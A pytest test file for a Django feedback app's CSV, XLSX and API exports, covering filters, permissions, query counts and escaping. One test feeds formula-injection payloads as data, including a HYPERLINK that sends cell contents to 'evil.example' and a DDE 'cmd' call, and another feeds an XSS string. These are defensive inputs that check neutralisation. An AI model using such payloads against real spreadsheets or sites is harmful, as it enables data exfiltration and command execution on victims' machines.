"""The inbox's CSV and XLSX exports (feedback:export_csv, feedback:export_xlsx) and the
API's (GET /api/v1/feedback/export), read back as a spreadsheet would read them."""

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from vinculo.accounts.services import create_api_key
from vinculo.feedback import exports
from vinculo.feedback.models import FeedbackItem
from vinculo.feedback.testing import filed
from vinculo.lib.spreadsheets import XLSX_TYPE
from vinculo.test import Org, People, at, client_for, make_customer
from vinculo.textan.models import TextAnalysis, Topic
from vinculo.textan.tasks import analyze_texts_task

CSV = reverse("feedback:export_csv")
XLSX = reverse("feedback:export_xlsx")
API = "/api/v1/feedback/export"
HEADER = [
    "id",
    "occurred_at",
    "source",
    "site",
    "external_id",
    "channel",
    "touchpoint",
    "unit_code",
    "unit_name",
    "customer_id",
    "rating",
    "rating_max",
    "title",
    "text",
    "author",
    "language",
    "sentiment",
    "score",
    "emotions",
    "topics",
]
ANGRY = "Estoy harta, una hora de espera en la tienda. Es una estafa."


def streamed(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response: Any, separator: str = ",") -> list[dict[str, str]]:
    assert response.status_code == 200, response
    body = streamed(response).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=separator))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def xlsx_rows(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200, response
    assert response["Content-Type"] == XLSX_TYPE
    book = load_workbook(io.BytesIO(streamed(response)))
    header, *rows = book.worksheets[0].iter_rows(values_only=True)
    assert list(header) == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows]


def english(client: Client) -> Client:
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def waiting_topic() -> Topic:
    parent = Topic.objects.create(name="Atención")
    return Topic.objects.create(name="Tiempo de espera", parent=parent, terms="espera")


def test_the_csv_holds_the_items_the_filters_select_with_their_analysis(
    org: Org, people: People, waiting_topic: Topic
) -> None:
    ana = make_customer("Ana Ruiz", email="ana@example.com")
    angry = filed(
        org.bilbao,
        ANGRY,
        "g-1",
        site="Google",
        occurred_at=at("2026-03-01 10:30"),
        rating=1,
        rating_max=5,
        title="Fatal",
        author="Ana R.",
        customer=ana,
    )
    filed(org.bilbao, "Muchas gracias por todo, encantada", "g-2")
    filed(org.sevilla, "Una estafa en Sevilla, esperando una hora", "g-3")
    analyze_texts_task.call()

    found = csv_rows(
        client_for(people.bruno).get(CSV, {"emotion": "anger", "unit": str(org.bilbao.pk)})
    )

    [row] = found
    analysis = TextAnalysis.objects.get(feedback=angry)
    felt = sorted(analysis.felt.all(), key=lambda f: -f.intensity)
    assert row == {
        "id": str(angry.pk),
        "occurred_at": "2026-03-01T10:30:00+01:00",
        "source": "review",
        "site": "Google",
        "external_id": "g-1",
        "channel": "web",
        "touchpoint": angry.touchpoint.name,
        "unit_code": "bilbao-centro",
        "unit_name": "Bilbao Centro",
        "customer_id": str(ana.pk),
        "rating": "1",
        "rating_max": "5",
        "title": "Fatal",
        "text": ANGRY,
        "author": "Ana R.",
        "language": "es",
        "sentiment": analysis.sentiment,
        "score": str(round(analysis.score, 3)),
        "emotions": "; ".join(f"{f.emotion}:{f.intensity:.2f}" for f in felt),
        "topics": "Atención > Tiempo de espera",
    }
    assert row["sentiment"] in ("negative", "very_negative")
    assert row["emotions"].startswith(("anger:", "frustration:")) and "anger:" in row["emotions"]


def test_an_anonymous_item_not_yet_analysed_has_empty_cells_and_never_its_contact(
    org: Org, people: People
) -> None:
    filed(org.bilbao, "Sin analizar", "n-1", contact={"email": "quien@example.com"})

    response = client_for(people.bruno).get(CSV, {"sep": "semicolon"})

    [row] = csv_rows(response, ";")
    assert row["customer_id"] == "" and row["rating"] == ""
    assert [row[c] for c in ("language", "sentiment", "score", "emotions", "topics")] == [""] * 5
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="feedback-{today}.csv"'


def test_the_xlsx_holds_the_same_rows_with_typed_cells_and_describes_its_columns(
    org: Org, people: People, waiting_topic: Topic
) -> None:
    item = filed(
        org.bilbao, ANGRY, "x-1", occurred_at=at("2026-03-01 10:30"), rating=2, rating_max=5
    )
    filed(org.bilbao, "Muchas gracias por todo, encantada", "x-2")
    analyze_texts_task.call()
    client = english(client_for(people.bruno))

    response = client.get(XLSX, {"q": "hora de espera"})

    [row] = xlsx_rows(response)
    assert (row["id"], row["rating"], row["rating_max"]) == (item.pk, 2, 5)
    assert row["occurred_at"] == dt.datetime(2026, 3, 1, 10, 30)  # local time, as shown
    assert row["topics"] == "Atención > Tiempo de espera"
    assert isinstance(row["score"], float) and row["customer_id"] is None
    today = timezone.localdate().isoformat()
    assert f'filename="feedback-{today}.xlsx"' in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(streamed(client.get(XLSX))))
    described: dict[Any, Any] = {
        name: content for name, content in list(book["Columns"].iter_rows(values_only=True))[1:]
    }
    assert list(described) == HEADER
    assert described["customer_id"] == "Customer (empty if anonymous)"


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "-2+3",
    ],
)
def test_formulas_typed_by_customers_are_never_run(org: Org, people: People, typed: str) -> None:
    filed(org.bilbao, typed, "f-1", title=typed, author=typed, site=typed)
    client = client_for(people.bruno)

    [row] = csv_rows(client.get(CSV))
    book = load_workbook(io.BytesIO(streamed(client.get(XLSX))))

    assert (row["text"], row["title"], row["author"], row["site"]) == ("'" + typed,) * 4
    cells: dict[str, Any] = dict(
        zip(HEADER, next(book.worksheets[0].iter_rows(min_row=2)), strict=True)
    )
    text = cells["text"]
    assert (text.value, text.data_type) == (typed, "s")
    assert all(c.data_type != "f" for c in cells.values())


def test_html_in_a_comment_comes_out_as_the_literal_text(org: Org, people: People) -> None:
    typed = '<script>alert(1)</script> <b onmouseover="x()">Hola</b> &amp;'
    filed(org.bilbao, typed, "h-1")
    client = client_for(people.bruno)

    [row] = csv_rows(client.get(CSV))
    [cells] = xlsx_rows(client.get(XLSX))

    assert row["text"] == typed and cells["text"] == typed


def test_control_characters_xlsx_cannot_hold_are_dropped_there_and_kept_in_csv(
    org: Org, people: People
) -> None:
    filed(org.bilbao, "Hola\x0bmundo\x1b", "c-1")
    client = client_for(people.bruno)

    [row] = csv_rows(client.get(CSV))
    [cells] = xlsx_rows(client.get(XLSX))

    assert (row["text"], cells["text"]) == ("Hola\x0bmundo\x1b", "Holamundo")


def test_a_unit_manager_exports_only_the_items_of_their_units(org: Org, people: People) -> None:
    filed(org.bilbao, "Reseña de Bilbao", "u-1")
    filed(org.santander, "Reseña de Santander", "u-2")
    filed(org.sevilla, "Reseña de Sevilla", "u-3")

    carmen = [r["text"] for r in csv_rows(client_for(people.carmen).get(CSV))]  # Norte
    diego = [r["text"] for r in xlsx_rows(client_for(people.diego).get(XLSX))]  # Bilbao
    gabriel = [r["text"] for r in csv_rows(client_for(people.gabriel).get(CSV))]  # Sur
    asked_elsewhere = client_for(people.carmen).get(CSV, {"unit": org.sevilla.pk})

    assert sorted(carmen) == ["Reseña de Bilbao", "Reseña de Santander"]
    assert diego == ["Reseña de Bilbao"]
    assert gabriel == ["Reseña de Sevilla"]
    assert asked_elsewhere.status_code == 302  # not a unit she may choose: the form says so


@pytest.mark.parametrize("person", ["elena", "fernando", "nadie"])
def test_exporting_needs_the_permission_to_export_feedback(
    org: Org, people: People, person: str
) -> None:
    filed(org.bilbao, "Reseña", "p-1")
    client = client_for(people.by_name(person))

    assert client.get(CSV).status_code == 403
    assert client.get(XLSX).status_code == 403


def test_signed_out_people_are_sent_to_sign_in(org: Org) -> None:
    response = Client().get(CSV)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ({"since": "ayer"}, "From", "Enter a valid date."),
        ({"topic": "abc"}, "Topic", "Select a valid choice."),
        ({"sentiment": "furious"}, "Sentiment", "Select a valid choice."),
    ],
)
def test_bad_filters_send_the_person_back_to_the_inbox_which_names_them(
    org: Org, people: People, query: dict[str, str], field: str, message: str
) -> None:
    filed(org.bilbao, "Reseña", "b-1")
    client = english(client_for(people.bruno))

    response = client.get(CSV, {**query, "sep": "semicolon"})
    page = client.get(response["Location"])

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("feedback:inbox") + "?")
    assert "sep=" not in response["Location"]
    text = page.content.decode()
    assert f"<li>{field}: {message}" in text
    assert "Correct the filters to export the feedback." in text
    assert reverse("feedback:export_csv") not in text  # no link to a file it would refuse


def test_the_inbox_offers_the_exports_with_its_filters_to_those_who_may_export(
    org: Org, people: People
) -> None:
    bruno = client_for(people.bruno).get("/feedback/", {"sentiment": "negative"}).content
    elena = client_for(people.elena).get("/feedback/").content

    assert f'href="{CSV}?sentiment=negative"'.encode() in bruno
    assert f'href="{XLSX}?sentiment=negative"'.encode() in bruno
    assert CSV.encode() not in elena


def test_the_export_reads_in_chunks_in_a_bounded_number_of_queries(
    org: Org,
    people: People,
    waiting_topic: Topic,
    monkeypatch: Any,
    django_assert_max_num_queries: Any,
) -> None:
    for number in range(30):
        filed(org.bilbao, f"{ANGRY} ({number})", f"q-{number}")
    analyze_texts_task.call()
    monkeypatch.setattr(exports, "CHUNK", 10)
    client = client_for(people.bruno)
    client.get("/feedback/")  # the session and the person are read once

    # once: session, person, roles, the form's channels and topics, the topic paths and
    # the items (one cursor, read in chunks): 7; per chunk of 10 items, their topics and
    # their emotions: 2 x 3. A query per item would add 30.
    with django_assert_max_num_queries(16):
        rows = csv_rows(client.get(CSV))

    assert len(rows) == 30
    assert all(r["topics"] == "Atención > Tiempo de espera" and r["emotions"] for r in rows)
    assert [int(r["id"]) for r in rows] == list(
        FeedbackItem.objects.order_by("-occurred_at", "-id").values_list("pk", flat=True)
    )


def test_the_api_exports_what_the_list_filters_select(org: Org, people: People) -> None:
    filed(org.bilbao, "Reseña de Bilbao", "a-1", source="complaint")
    filed(org.bilbao, "Otra de Bilbao", "a-2")
    filed(org.sevilla, "Reseña de Sevilla", "a-3", source="complaint")
    _key, token = create_api_key(
        name="bi", scopes=["feedback.export"], created_by=None, unit=org.norte
    )
    key = Client(HTTP_AUTHORIZATION=f"Bearer {token}")

    csv_file = csv_rows(key.get(API, {"source": "complaint"}))
    xlsx_file = xlsx_rows(key.get(API, {"source": "complaint", "format": "xlsx"}))
    semicolons = csv_rows(key.get(API, {"sep": "semicolon"}), ";")

    assert [r["text"] for r in csv_file] == ["Reseña de Bilbao"]
    assert [r["text"] for r in xlsx_file] == ["Reseña de Bilbao"]
    assert len(semicolons) == 2


def test_the_api_names_a_bad_filter_and_refuses_keys_without_the_scope(
    org: Org, people: People
) -> None:
    _key, exporter = create_api_key(
        name="e", scopes=["feedback.export"], created_by=None, unit=org.norte
    )
    _key, reader = create_api_key(name="r", scopes=["feedback.view"], created_by=None)
    exporting = Client(HTTP_AUTHORIZATION=f"Bearer {exporter}")

    elsewhere = exporting.get(API, {"unit": "sevilla-nervion"})
    bad_format = exporting.get(API, {"format": "pdf"})
    bad_date = exporting.get(API, {"since": "ayer"})
    refused = Client(HTTP_AUTHORIZATION=f"Bearer {reader}").get(API)

    assert elsewhere.status_code == 422
    assert [e["field"] for e in elsewhere.json()["detail"]] == ["unit"]
    assert [e["field"] for e in bad_format.json()["detail"]] == ["format"]
    assert [e["field"] for e in bad_date.json()["detail"]] == ["since"]
    assert refused.status_code == 403
